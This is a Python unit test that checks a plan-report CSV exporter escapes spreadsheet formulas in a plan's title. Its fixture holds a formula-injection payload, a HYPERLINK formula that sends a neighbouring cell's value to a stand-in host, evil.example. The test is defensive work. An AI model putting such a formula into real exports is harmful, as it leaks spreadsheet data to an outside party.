"""comparison.csv: a plan's title that a spreadsheet would run is written as text."""

from __future__ import annotations

import csv
import io

from hito.report.plans_report import rows_csv


def test_csv_formula_injection_in_a_plans_title_in_comparison_csv_is_neutralised() -> None:
    """A plan file received from elsewhere, compared, and the CSV opened in a spreadsheet."""
    row = {
        "plan": "shared-plan",
        "title": '=HYPERLINK("https://evil.example/?"&B3,"see the plan")',
        "runs": 20,
        "stranded_peak": {"p10": 1.0, "p50": 2.0, "p90": 3.0},
        "triggers": [],
    }
    (line,) = list(csv.DictReader(io.StringIO(rows_csv([row]))))
    assert line["title"] == '\'=HYPERLINK("https://evil.example/?"&B3,"see the plan")'
    assert line["plan"] == "shared-plan"
    assert line["stranded_peak_p50"] == "2"
